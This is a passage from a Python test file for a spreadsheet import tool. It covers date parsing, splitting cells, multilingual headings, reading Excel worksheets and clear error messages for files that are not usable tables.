    assert amounts.range_in(f"{written} - {written}") is None


@pytest.mark.parametrize(
    "written,day",
    [
        ("24.11.2026", "2026-11-24"),
        ("11/24/2026", "2026-11-24"),
        ("03/04/2026", "03/04/2026"),
        ("2026-11-24 00:00:00", "2026-11-24"),
        ("2026-02-30", "2026-02-30"),
    ],
)
def test_a_date_is_read_unless_it_could_be_two(written, day):
    assert amounts.date_in(written) == day


@settings(deadline=None)
@given(
    st.lists(st.sampled_from(["mowing", "design and build", "R&D", "moss/stone"]), min_size=1, max_size=6), st.data()
)
def test_known_values_are_found_between_whatever_signs(values, data):
    signs = st.sampled_from(["; ", " | ", "\n", ", ", "\n• ", " / ", " and ", " & ", " und "])
    text = values[0] + "".join(data.draw(signs) + value for value in values[1:])
    assert list(parts(text, set(values).__contains__)) == values


@settings(deadline=None)
@given(st.text(max_size=80))
def test_nothing_but_signs_and_the_word_between_is_lost_when_a_cell_is_taken_apart(text):
    def words(text: str) -> list[str]:
        return [word for word in re.findall(r"\w+", text) if word.casefold() not in {*between()}]

    assert [word for part in parts(text, lambda part: False) for word in words(part)] == words(text)


def test_every_plain_field_has_headings_in_english_and_the_common_ones_in_four_languages():
    loaded = load((ROOT / "build_tools/joining/headings.yml").read_bytes())
    assert loaded.findings == ()
    for name in ("name", "website", "email", "phone", "person", "summary", "description", "budget_from", "confirmed"):
        assert loaded.value["fields"][name].keys() >= {"en", "de", "fr", "es"}
    assert all(words for words in field_words().values())


def workbook(path: Path, *rows: list[object], title: str = "Firms", more: dict[str, list[list[object]]] | None = None):
    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    for name, cells in (more or {}).items():
        other = book.create_sheet(name)
        for row in cells:
            other.append(row)
    book.save(path)


def test_an_excel_workbook_is_read_like_a_sheet_in_csv(folder, capsys):
    import datetime

    sheet(folder)
    mapping = f"{MAPPING}  confirmed: {{column: Seen}}\n  phone: {{column: Tel}}\n"
    (folder / "firms.mapping.yml").write_text(mapping, "utf-8")
    head = [*HEADER.split(","), "Seen", "Tel"]
    row = [*ACME.split(","), datetime.date(2026, 10, 19), 3035550101]
    workbook(folder / "firms.xlsx", head, row, [], ["B", None, None], more={"Old": [["x"]], "Empty": []})
    assert run(["import", "firms.xlsx", "--apply"]) == 1
    said = capsys.readouterr().out
    assert "firms.xlsx: only the worksheet 'Firms' is read, not: Old" in said
    assert "firms.xlsx:4: row 2, column Summary: nothing in this row gives 'summary'" in said
    assert profiles(folder)["acme"]["confirmed"] == "2026-10-19"
    assert profiles(folder)["acme"]["contact"] == {"email": "a@acme.example", "phone": "3035550101"}


def test_another_worksheet_can_be_named_in_the_mapping(folder, capsys):
    workbook(folder / "firms.xlsx", ["x"], more={"Second": [HEADER.split(","), ACME.split(",")]})
    (folder / "firms.mapping.yml").write_text(f"worksheet: Second\n{MAPPING}", "utf-8")
    assert run(["import", "firms.xlsx", "--apply"]) == 0
    (folder / "firms.mapping.yml").write_text(f"worksheet: Third\n{MAPPING}", "utf-8")
    assert run(["import", "firms.xlsx"]) == 2
    assert "it has: Firms, Second" in capsys.readouterr().err


def test_without_openpyxl_a_workbook_is_named_for_what_it_is_in_one_message(folder, capsys, monkeypatch):
    workbook(folder / "firms.xlsx", HEADER.split(","))
    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name == "openpyxl" else real(name, *a))
    assert run(["import", "firms.xlsx"]) == 2
    said = capsys.readouterr().err
    assert "firms.xlsx is an Excel workbook" in said
    assert "save it as CSV (UTF-8), or pip install 'better-fit[xlsx]'" in said
    assert "encoding" not in said


@pytest.mark.parametrize(
    "data,said",
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a file of an old Excel (.xls)"),
        (b"%PDF-1.7\n", "a PDF, from which no table can be read"),
        (b"\r\n<!DOCTYPE html><table><tr><td>Name", "a web page (HTML), whatever its name says"),
        (b"PK\x03\x04 no more", "a broken ZIP archive"),
        ({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}, "a spreadsheet of LibreOffice (.ods)"),
        ({"word/document.xml": ""}, "a text document"),
        ({"a.txt": ""}, "a ZIP archive"),
        ({"xl/workbook.xml": "<broken"}, "a broken Excel workbook"),
    ],
)
def test_what_is_no_sheet_is_named_for_what_it_is_and_no_encoding_is_offered(folder, bring, data, said):
    path = sheet(folder, mapping=None)
    if isinstance(data, dict):
        with zipfile.ZipFile(path, "w") as archive:
            for name, text in data.items():
                archive.writestr(name, text)
    else:
        path.write_bytes(data)
    code, printed = bring()
    assert code == 2
    assert said in printed
    assert "CSV" in printed
    assert "--encoding" not in printed
